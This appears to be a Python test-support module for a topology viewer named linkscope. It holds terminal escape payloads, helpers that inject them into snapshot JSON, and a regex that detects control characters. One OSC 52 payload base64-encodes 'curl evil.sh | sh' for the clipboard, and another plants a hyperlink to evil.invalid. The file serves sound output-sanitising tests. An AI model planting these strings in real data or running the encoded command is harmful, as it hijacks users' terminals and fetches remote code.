"""Hostile strings for the output tests: terminal escape payloads, and snapshots carrying them.

Each payload is something a crafted file could smuggle into a host, GPU, NIC or version name to
act on the terminal of whoever prints it: clear the screen, set the window title, write the
clipboard (OSC 52), plant a hyperlink, or do the same with the 8-bit C1 introducers.
"""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

from support.paths import ROOT

PAYLOADS: dict[str, str] = {
    "clear-screen": "\x1b[2J\x1b[3J\x1b[H",
    "window-title": "\x1b]0;pwned\x07",
    "clipboard-osc52": "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07",
    "hyperlink-osc8": "\x1b]8;;https://evil.invalid/\x1b\\click\x1b]8;;\x1b\\",
    "c1-csi": "\x9b2J\x9b31m",
    "c1-osc": "\x9d0;title\x9c",
    "dcs": "\x1bP+q544e\x1b\\",
    "cursor-and-cr": "ok\r\x1b[1Afake line\x08\x08",
    "bell-and-nul": "\x07\x00\x7f",
    "cut-short-osc": "\x1b]52;c;AAAA",
    "markup": "[link=https://evil.invalid]x[/link][bold red]",
    "bidi-override": "gpu\u202elive.ssh\u202c\u2066x\u2069",
    "invisible": "node\u200b01\u2060\ufeff\u00ad\u200d",
}
"""Name -> payload; every one must reach no terminal as control characters."""

CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069"
                     "\u00ad\u200b-\u200d\u2060-\u2064\ufeff\u2028\u2029]")
"""Any control character but tab and newline, the bidirectional overrides that reorder what a line shows and
the characters that print as nothing (zero-width space, word joiner, byte-order mark, soft hyphen): none may
appear in what linkscope prints."""

_TEXTUAL_OWN = re.compile(r"\x1b\[[0-9;]*[mHJKlh]|\x1b\[\?[0-9;]*[lh]")
"""Sequences Textual itself writes (colours, cursor positioning, modes)."""

VOCABULARY_FIELDS = frozenset({"kind", "direction", "remote_type", "read", "write", "nvlink", "atomics", "schema"})
"""Fields whose strings are from a fixed vocabulary (validated): left alone, so the rest is rendered."""


def sample_json(name: str = "dgx-h100") -> dict[str, Any]:
    """The built-in sample `name` as JSON data."""
    data: dict[str, Any] = json.loads((ROOT / "topo" / "samples" / f"{name}.json").read_text())
    return data


def poisoned(data: Any, payload: str, key: str | None = None) -> Any:
    """`data` with `payload` put inside every free-form string (vocabulary fields and tokens kept)."""
    if isinstance(data, dict):
        return {name: poisoned(value, payload, name) for name, value in data.items()}
    if isinstance(data, list):
        if key == "gpu_nic":
            return data
        return [poisoned(item, payload, key) for item in data]
    if isinstance(data, str) and key not in VOCABULARY_FIELDS:
        return f"{data[:4]}{payload}{data[4:]}"
    return data


def hostile_snapshot_file(folder: Path, payload: str, sample: str = "dgx-h100") -> Path:
    """A snapshot file of `sample` with `payload` in every free-form string, under `folder`."""
    path = folder / "hostile.json"
    path.write_text(json.dumps(poisoned(sample_json(sample), payload)), encoding="utf-8")
    return path


def control_characters(text: str) -> list[str]:
    """The control characters (but tab and newline) in `text`, as repr strings, for messages."""
    return [repr(match.group()) for match in CONTROL.finditer(text)]


def terminal_controls(stream: str) -> list[str]:
    """Control characters in a Textual terminal stream once Textual's own sequences are taken out."""
    return control_characters(_TEXTUAL_OWN.sub("", stream))
